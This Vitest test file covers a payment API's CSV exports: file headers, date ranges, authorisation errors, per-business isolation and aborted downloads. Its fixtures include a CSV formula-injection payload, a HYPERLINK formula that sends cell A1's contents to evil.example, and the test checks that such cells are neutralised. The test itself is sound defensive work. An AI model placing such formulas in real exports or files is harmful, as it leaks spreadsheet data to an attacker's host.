import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { BalanceTransactionRecord } from '../../reference-server/src/db/balance-transactions.ts';
import { ManualClock } from '../../reference-server/src/internal/clock.ts';
import { bootstrap, call, createSession, expectError, retrieveSession } from '../support/api.ts';
import {
  csvRecords,
  failSecondSessionsPage,
  LEDGER_CSV_HEADER,
  ledgerCsvRow,
} from '../support/csv-exports.ts';
import { type RunningServer, startServer } from '../support/server.ts';

// Issue 37: the CSV exports from the API. Sessions are made at known instants (a manual clock) with payer names
// a spreadsheet would run, then downloaded and read back byte for byte and as CSV.

const DAY = Date.UTC(2026, 11, 1); // 2026-12-01T00:00:00Z
const clock = new ManualClock(DAY - 1); // 2026-11-30T23:59:59.999Z
let server: RunningServer;
let key: string;
let publishableKey: string;
let otherKey: string;
/** What the service logged as an error, to see a failed export named there. */
const errorsLogged: Array<{ message: string; fields?: Record<string, unknown> }> = [];
const logger = {
  info() {},
  warn() {},
  error(message: string, fields?: Record<string, unknown>) {
    errorsLogged.push({ message, ...(fields ? { fields } : {}) });
  },
};
const made: Array<{ id: string; at: number; name: string; phone?: string; reference: string }> = [];

/** A download as the client gets it: status, headers, and the body's bytes decoded with its BOM kept. */
async function download(path: string, token: string | undefined = key) {
  const response = await fetch(new URL(path, server.baseUrl), {
    headers: token === undefined ? {} : { authorization: `Bearer ${token}` },
  });
  const bytes = Buffer.from(await response.arrayBuffer());
  return { status: response.status, headers: response.headers, bytes, text: bytes.toString('utf8') };
}

/** The CSV's records (the header first), parsed as a spreadsheet reads RFC 4180. */

async function makeSession(at: number, name: string, reference: string, phone?: string, pay = false) {
  clock.advance(at - clock.now());
  const created = await createSession(server.baseUrl, key, {
    amount: 5000 + made.length,
    reference,
    payer: { name, email: 'payer@example.com', ...(phone ? { phone } : {}) },
  });
  if (pay) {
    const opened = await bootstrap(server.baseUrl, created.clientSecret);
    const transfer = await call(server.baseUrl, 'POST', '/api/test/transfers', {
      token: key,
      json: { accountNumber: opened.virtualAccount.accountNumber, amount: created.amount },
    });
    expect(transfer.status, transfer.text).toBe(200);
  }
  made.push({ id: created.id, at, name, reference, ...(phone ? { phone } : {}) });
}

beforeAll(async () => {
  // Pages of 2 rows: the five sessions take three pages, so the keyset's page boundaries are crossed.
  server = await startServer({ rateLimit: { perMinute: 10_000 }, exportPageSize: 2 }, { clock, logger });
  const business = await server.createBusiness({ name: 'Export Shop' });
  key = business.keys.test.secretKey;
  publishableKey = business.keys.test.publishableKey;
  otherKey = (await server.createBusiness({ name: 'Other Shop' })).keys.test.secretKey;
  await makeSession(DAY - 1, 'Before Midnight', 'ref-before');
  await makeSession(DAY, '=HYPERLINK("http://evil.example/?"&A1,"Refund")', 'ref-formula', '+2348012345678');
  await makeSession(DAY + 12 * 3600_000, 'Obi, "Ada"\r\nSecond line', 'ref-quoted', undefined, true);
  await makeSession(DAY + 24 * 3600_000 - 1, '@SUM(A1:A9)', '-5');
  await makeSession(DAY + 24 * 3600_000, '-2+3', 'ref-next-day');
});

afterAll(() => server.close());

/** What the export's row for session `id` must hold, read from the API's own view of it. */
async function expectedRow(id: string): Promise<string[]> {
  const session = await retrieveSession(server.baseUrl, key, id);
  const text = (value: string | undefined) =>
    value === undefined ? '' : /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
  return [
    session.id,
    session.createdAt,
    text(session.reference),
    session.status,
    String(session.amount),
    String(session.amountRefunded ?? 0),
    session.currency,
    text(session.payer.name),
    session.payer.email,
    text(session.payer.phone),
    session.paidAt ?? '',
  ];
}

const HEADER = [
  'id',
  'createdAt',
  'reference',
  'status',
  'amount',
  'amountRefunded',
  'currency',
  'payerName',
  'payerEmail',
  'payerPhone',
  'paidAt',
];

describe('GET /api/exports/sessions', () => {
  it('streams one UTC day as a CSV download: headers, file name, exactly the rows created that day, oldest first', async () => {
    const got = await download('/api/exports/sessions?createdFrom=2026-12-01&createdTo=2026-12-02');
    expect(got.status).toBe(200);
    expect(got.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(got.headers.get('content-disposition')).toBe(
      'attachment; filename="servicepay-sessions-test-2026-12-01-to-2026-12-02.csv"',
    );
    expect(got.headers.get('cache-control')).toBe('no-store');
    expect(got.bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(got.text.endsWith('\r\n')).toBe(true);
    const inDay = made.filter((session) => session.at >= DAY && session.at < DAY + 24 * 3600_000);
    expect(inDay).toHaveLength(3);
    expect(csvRecords(got.text)).toEqual([
      HEADER,
      ...(await Promise.all(inDay.map((session) => expectedRow(session.id)))),
    ]);
    const paid = csvRecords(got.text).find((row) => row[2] === 'ref-quoted');
    expect(paid?.[3]).toBe('successful');
    expect(paid?.[10]).toBe(new Date(DAY + 12 * 3600_000).toISOString());
  });

  it('neutralises every cell a spreadsheet would run as a formula, in the bytes downloaded', async () => {
    const { text } = await download('/api/exports/sessions?createdFrom=2026-12-01&createdTo=2026-12-02');
    // The second row's name holds a CRLF, inside its quotes: it spans two lines of the file.
    const [formula, quoted, quotedRest, at] = text.split('\r\n').slice(1);
    expect(formula).toContain(
      `,"'=HYPERLINK(""http://evil.example/?""&A1,""Refund"")",payer@example.com,"'+2348012345678",`,
    );
    expect(formula).toMatch(/,5001,0,NGN,/); // amounts: plain numbers
    // The CRLF inside the name is inside its quotes: the row is whole.
    expect(quoted?.endsWith(',"Obi, ""Ada""')).toBe(true);
    expect(quotedRest?.startsWith('Second line",payer@example.com,,')).toBe(true);
    expect(at).toContain(`,"'-5",`);
    expect(at).toContain(`,"'@SUM(A1:A9)",`);
    for (const record of csvRecords(text).slice(1))
      for (const cell of [record[2], record[7], record[9]]) expect(cell ?? '').not.toMatch(/^[=+\-@\t\r]/);
  });

  it('takes instants with an offset; from is included, to excluded', async () => {
    const got = await download(
      `/api/exports/sessions?createdFrom=${encodeURIComponent('2026-12-01T13:00:00+01:00')}&createdTo=${encodeURIComponent('2026-12-02T00:00:00.000Z')}`,
    );
    expect(got.status).toBe(200);
    expect(got.headers.get('content-disposition')).toBe(
      'attachment; filename="servicepay-sessions-test-2026-12-01T120000Z-to-2026-12-02.csv"',
    );
    expect(csvRecords(got.text).map((row) => row[2])).toEqual(['reference', 'ref-quoted', "'-5"]);
  });

  it('with no range exports everything of the key environment, and nothing of another business', async () => {
    const all = await download('/api/exports/sessions?environment=test');
    expect(all.headers.get('content-disposition')).toBe(
      'attachment; filename="servicepay-sessions-test-start-to-now.csv"',
    );
    expect(
      csvRecords(all.text)
        .slice(1)
        .map((row) => row[0]),
    ).toEqual(made.map((session) => session.id));
    const other = await download('/api/exports/sessions', otherKey);
    expect(csvRecords(other.text)).toEqual([HEADER]);
  });

  it('refuses in the JSON envelope before the first byte: 401, 403, 400', async () => {
    expectError(await call(server.baseUrl, 'GET', '/api/exports/sessions'), 401, 'authentication_required');
    expectError(
      await call(server.baseUrl, 'GET', '/api/exports/sessions?environment=live', { token: key }),
      403,
      'environment_mismatch',
    );
    expectError(
      await call(server.baseUrl, 'GET', '/api/exports/sessions', { token: publishableKey }),
      403,
      'publishable_key_not_allowed',
    );
    for (const query of [
      'createdFrom=yesterday',
      'createdFrom=2026-12-01T00:00:00', // no offset: no instant
      'createdFrom=2026-12-02&createdTo=2026-12-01',
      'createdFrom=2026-12-01&createdTo=2026-12-01',
      'createdFrom=2026-02-30',
    ]) {
      const refused = await call(server.baseUrl, 'GET', `/api/exports/sessions?${query}`, { token: key });
      expectError(refused, 400, 'validation_failed');
      expect(refused.headers.get('content-type')).toContain('application/json');
      expect(refused.body.errors[0].path).toMatch(/^created(From|To)$/);
    }
  });

  it('a database failure after the first byte aborts the download; the client never gets a short file that looks whole (fault injected into the page reader)', async () => {
    const fault = failSecondSessionsPage(server.service.deps.store.exportPages);
    try {
      const response = await fetch(new URL('/api/exports/sessions', server.baseUrl), {
        headers: { authorization: `Bearer ${key}` },
      });
      expect(response.status).toBe(200);
      await expect(response.arrayBuffer()).rejects.toThrow(/terminated/);
      expect(fault.calls()).toBe(2);
      await expect
        .poll(() => errorsLogged.map((entry) => entry.message))
        .toContain('response failed after its first byte');
      expect(JSON.stringify(errorsLogged)).toContain('injected: the database went away mid-export');
    } finally {
      fault.restore();
    }
    // The next export is whole again.
    expect(csvRecords((await download('/api/exports/sessions')).text)).toHaveLength(made.length + 1);
  });
});

describe('GET /api/exports/balance-transactions', () => {
  let ledgerKey: string;
  const entries: Array<Omit<BalanceTransactionRecord, 'seq'>> = [];

  beforeAll(async () => {
    const business = await server.createBusiness({ name: 'Ledger Shop' });
    ledgerKey = business.keys.test.secretKey;
    const session = await createSession(server.baseUrl, ledgerKey, { amount: 5000 });
    // The ledger's rows as its writer records them (known data, inserted through the ledger's own repository).
    const entry = (at: number, n: number, fields: Partial<Omit<BalanceTransactionRecord, 'seq'>>) => ({
      id: `txn_export${n}`,
      businessId: business.business.id,
      environment: 'test' as const,
      type: 'payment' as const,
      amount: 5000,
      currency: 'NGN',
      sessionId: null,
      refundId: null,
      transferId: `trf_export${n}`,
      payerAccount: '******6789',
      createdAt: at,
      ...fields,
    });
    entries.push(
      entry(DAY - 1, 1, { type: 'unapplied_credit', amount: 700 }),
      entry(DAY, 2, { sessionId: session.id }),
      entry(DAY + 3600_000, 3, {
        type: 'refund',
        amount: -2000,
        sessionId: session.id,
        refundId: 'rfd_export3',
        transferId: 'trf_export2',
      }),
      entry(DAY + 7200_000, 4, {
        type: 'transfer_received',
        amount: 150,
        currency: 'USD',
        payerAccount: null,
      }),
      entry(DAY + 7200_000, 5, {
        type: 'transfer_return',
        amount: -150,
        currency: 'USD',
        transferId: 'trf_export4',
      }),
      entry(DAY + 24 * 3600_000, 6, { amount: 900 }),
    );
    await server.service.deps.store.writes.run(async (tx) => {
      for (const row of entries) await tx.balanceTransactions.insert(row);
    });
  });

  const rowOf = (entry: Omit<BalanceTransactionRecord, 'seq'>) =>
    ledgerCsvRow({ ...entry, createdAt: new Date(entry.createdAt).toISOString() });

  it('streams the day’s movements with signed amounts, transfer ids and masked accounts, oldest first', async () => {
    const got = await download(
      '/api/exports/balance-transactions?createdFrom=2026-12-01&createdTo=2026-12-02&environment=test',
      ledgerKey,
    );
    expect(got.status).toBe(200);
    expect(got.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(got.headers.get('content-disposition')).toBe(
      'attachment; filename="servicepay-balance-transactions-test-2026-12-01-to-2026-12-02.csv"',
    );
    expect(csvRecords(got.text)).toEqual([LEDGER_CSV_HEADER, ...entries.slice(1, 5).map(rowOf)]);
    // Negative amounts are numbers a spreadsheet sums, not neutralised text.
    expect(got.text).toContain(',refund,-2000,NGN,');
    const sumOf = (currency: string) =>
      csvRecords(got.text)
        .slice(1)
        .filter((row) => row[4] === currency)
        .reduce((sum, row) => sum + Number(row[3]), 0);
    expect(sumOf('NGN')).toBe(3000);
    expect(sumOf('USD')).toBe(0);
  });

  it('refuses another environment, a bad range and a missing key in the envelope', async () => {
    expectError(
      await call(server.baseUrl, 'GET', '/api/exports/balance-transactions?environment=live', {
        token: ledgerKey,
      }),
      403,
      'environment_mismatch',
    );
    expectError(
      await call(server.baseUrl, 'GET', '/api/exports/balance-transactions'),
      401,
      'authentication_required',
    );
    expectError(
      await call(server.baseUrl, 'GET', '/api/exports/balance-transactions?createdTo=12/01/2026', {
        token: ledgerKey,
      }),
      400,
      'validation_failed',
    );
  });

  it('gives a business only its own movements', async () => {
    const own = await download('/api/exports/balance-transactions', ledgerKey);
    expect(csvRecords(own.text).slice(1)).toEqual(entries.map(rowOf));
    const other = await download('/api/exports/balance-transactions', otherKey);
    const ours = new Set(entries.map((entry) => entry.id));
    expect(
      csvRecords(other.text)
        .slice(1)
        .filter((row) => ours.has(row[0] ?? '')),
    ).toEqual([]);
  });
});
